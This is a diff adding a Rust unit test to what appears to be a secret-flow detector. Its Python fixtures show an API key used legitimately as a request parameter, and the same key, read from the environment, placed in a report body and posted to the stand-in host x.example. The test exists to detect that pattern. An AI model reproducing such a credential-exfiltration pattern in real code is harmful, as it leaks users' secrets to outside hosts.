@@ -571,3 +571,12 @@ fn editor_and_prompt_configurations_are_start_up_files() {
     let read = "print(open(os.path.expanduser('~/.config/starship.toml')).read())\n";
     assert!(startup_writes(read, 1).is_empty());
 }
+
+#[test]
+fn a_key_put_in_a_request_credential_item_is_its_use() {
+    let ncbi = "class C:\n  def __init__(self):\n    self.api_key = os.environ.get('NCBI_API_KEY')\n  def get(self, params):\n    if self.api_key:\n      params['api_key'] = self.api_key\n    q = urllib.parse.urlencode(params)\n    return urlopen(f'{URL}?{q}')\n";
+    assert_eq!(secret_flows(ncbi, 1), vec![]);
+    // The same key put in an item of a body under another name leaves.
+    let body = "key = os.environ.get('NCBI_API_KEY')\nreport['environment'] = key\nrequests.post('https://x.example', json=report)\n";
+    assert_eq!(secret_flows(body, 1).len(), 1);
+}
